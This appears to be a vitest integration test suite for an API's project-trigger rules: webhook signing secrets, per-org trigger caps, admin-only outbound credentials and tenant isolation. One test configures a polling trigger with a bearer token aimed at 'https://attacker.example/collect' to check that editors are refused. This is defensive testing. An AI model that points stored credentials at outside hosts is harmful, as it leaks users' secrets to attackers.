/**
 * Create-time rules of project triggers: usable connection secrets, the caps on
 * provider-routable triggers, admin-only outbound credentials, and tenancy before role.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { api, makeConnection, makeTenant, type Tenant } from "../../fixtures";

let t: Tenant;
let other: Tenant;
beforeAll(async () => {
  t = await makeTenant("rules");
  other = await makeTenant("rules-other");
});

const create = (tenant: Tenant, body: Record<string, unknown>, token = tenant.tokens.editor) => api("POST", `/projects/${tenant.appId}/triggers`, { token, body });
const b64 = btoa("a standard webhooks key");

describe("connection secrets a signed provider's trigger can use", () => {
  it("refuses (422 at body.connection_id) a connection without a usable secret, naming the secret that is missing", async () => {
    const cases: [string, Record<string, unknown>, RegExp][] = [
      ["github", { client_state: "x" }, /secrets\.signing_secret/],
      ["stripe", { signing_secret: "" }, /secrets\.signing_secret/],
      ["slack", { api_token: "xoxb-1" }, /secrets\.signing_secret/],
      ["shopify", { signing_secret: 42 }, /secrets\.signing_secret/],
      ["typeform", {}, /secrets\.signing_secret/],
      ["standard_webhooks", { signing_secret: "whsec_" }, /whsec_/],
      ["standard_webhooks", { signing_secret: "whsec_not base64!" }, /whsec_/],
      ["microsoft_graph", {}, /secrets\.client_state/],
      ["webhook", { note: "no secret" }, /secrets\.signing_secret/],
    ];
    for (const [provider, secrets, msg] of cases) {
      const conn = await makeConnection(t, provider, secrets);
      const res = await create(t, { provider_id: provider, trigger_id: "on_any_event", connection_id: conn }, t.tokens.admin);
      expect(res.status, `${provider} ${JSON.stringify(secrets)}: ${JSON.stringify(res.body)}`).toBe(422);
      expect(res.body.detail[0]).toMatchObject({ loc: ["body", "connection_id"], msg: expect.stringMatching(msg), input: conn });
    }
  });

  it("accepts whsec_<base64> and the bare base64 key for Standard Webhooks, and client_state or signing_secret for Graph", async () => {
    for (const [provider, secrets] of [
      ["standard_webhooks", { signing_secret: `whsec_${b64}` }],
      ["standard_webhooks", { signing_secret: b64 }],
      ["microsoft_graph", { client_state: "cs" }],
      ["microsoft_graph", { signing_secret: "cs" }],
      ["webhook", { signing_secret: "generic" }],
    ] as const) {
      const res = await create(t, { provider_id: provider, trigger_id: "on_any_event", connection_id: await makeConnection(t, provider, secrets), route_key: `ok-${crypto.randomUUID()}` });
      expect(res.status, `${provider}: ${JSON.stringify(res.body)}`).toBe(201);
    }
  });
});

describe("caps on provider-routable triggers", () => {
  it("allows 5 wildcard triggers per provider per org (409 beyond, with the reason); keyed and connection-less ones are not counted; another org is unaffected", async () => {
    const org = await makeTenant("wild-cap");
    const conn = await makeConnection(org, "github", { signing_secret: "s" });
    for (let i = 0; i < 5; i++) expect((await create(org, { provider_id: "github", trigger_id: "on_any_event", connection_id: conn })).status).toBe(201);
    const sixth = await create(org, { provider_id: "github", trigger_id: "on_push", connection_id: conn });
    expect(sixth.status).toBe(409);
    expect(sixth.body.detail[0].msg).toMatch(/at most 5 .*route_key/);
    expect((await create(org, { provider_id: "github", trigger_id: "on_any_event", connection_id: conn, route_key: "123" })).status).toBe(201);
    expect((await create(org, { provider_id: "github", trigger_id: "on_any_event" })).status).toBe(201);
    expect((await create(org, { provider_id: "stripe", trigger_id: "on_any_event", connection_id: await makeConnection(org, "stripe", { signing_secret: "whsec_x" }) })).status).toBe(201);
    expect((await create(other, { provider_id: "github", trigger_id: "on_any_event", connection_id: await makeConnection(other, "github", { signing_secret: "s" }) })).status).toBe(201);
  });

  it("concurrent creates never exceed the wildcard cap", async () => {
    const org = await makeTenant("wild-race");
    const conn = await makeConnection(org, "slack", { signing_secret: "s" });
    const all = await Promise.all(Array.from({ length: 8 }, () => create(org, { provider_id: "slack", trigger_id: "on_any_event", connection_id: conn })));
    expect(all.filter((r) => r.status === 201)).toHaveLength(5);
    expect(all.filter((r) => r.status === 409)).toHaveLength(3);
    const listed = await api("GET", `/projects/${org.appId}/triggers`, { token: org.tokens.viewer });
    expect(listed.body).toHaveLength(5);
  });

  it("allows 10 triggers per provider, route_key and org (409 beyond)", async () => {
    const org = await makeTenant("key-cap");
    const conn = await makeConnection(org, "typeform", { signing_secret: "s" });
    for (let i = 0; i < 10; i++) expect((await create(org, { provider_id: "typeform", trigger_id: "on_any_event", connection_id: conn, route_key: "FORM1" })).status).toBe(201);
    const over = await create(org, { provider_id: "typeform", trigger_id: "on_any_event", connection_id: conn, route_key: "FORM1" });
    expect(over.status).toBe(409);
    expect(over.body.detail[0].msg).toMatch(/at most 10 .*route_key 'FORM1'/);
    expect((await create(org, { provider_id: "typeform", trigger_id: "on_any_event", connection_id: conn, route_key: "FORM2" })).status).toBe(201);
  });
});

describe("outbound credentials", () => {
  it("attaching a connection to an http or rss polling trigger needs admin (editor 403 naming the rule; admin 201; editor without a connection 201)", async () => {
    for (const provider of ["http", "rss"]) {
      const conn = await makeConnection(t, provider, { bearer_token: "tok-never-leaves" });
      const body = { provider_id: provider, trigger_id: "poll", connection_id: conn, trigger_config: { url: "https://attacker.example/collect" } };
      const editor = await create(t, body);
      expect(editor.status, JSON.stringify(editor.body)).toBe(403);
      expect(editor.body.detail[0].msg).toMatch(/admin/);
      expect(editor.body.detail[0].msg).toMatch(/connection/);
      expect((await create(t, body, t.tokens.admin)).status).toBe(201);
      expect((await create(t, { ...body, connection_id: null })).status).toBe(201);
    }
  });
});

describe("tenancy before role", () => {
  it("another org's or a nonexistent trigger/project is 404 for every role, never 403", async () => {
    const mine = await create(t, { provider_id: "webhook", trigger_id: "on_any_event" });
    const id = mine.body.project_trigger_id as string;
    const missing = "01900000-0000-7000-8000-000000000000";
    for (const role of ["viewer", "runner", "editor", "admin"] as const) {
      const tok = other.tokens[role];
      for (const target of [id, missing]) {
        for (const [m, p] of [
          ["GET", `/triggers/${target}`],
          ["DELETE", `/triggers/${target}`],
          ["POST", `/triggers/${target}/enable`],
          ["POST", `/triggers/${target}/disable`],
          ["GET", `/api/v0/project-triggers/${target}/test-samples`],
        ] as const) {
          expect((await api(m, p, { token: tok })).status, `${role} ${m} ${p}`).toBe(404);
        }
      }
      expect((await create(t, { provider_id: "webhook", trigger_id: "on_any_event" }, tok)).status, `${role} create in another org`).toBe(404);
      expect((await api("GET", `/projects/${t.appId}/triggers`, { token: tok })).status).toBe(404);
    }
    // In its own org a viewer still gets 403 for writes.
    expect((await api("POST", `/triggers/${id}/enable`, { token: t.tokens.viewer })).status).toBe(403);
  });
});
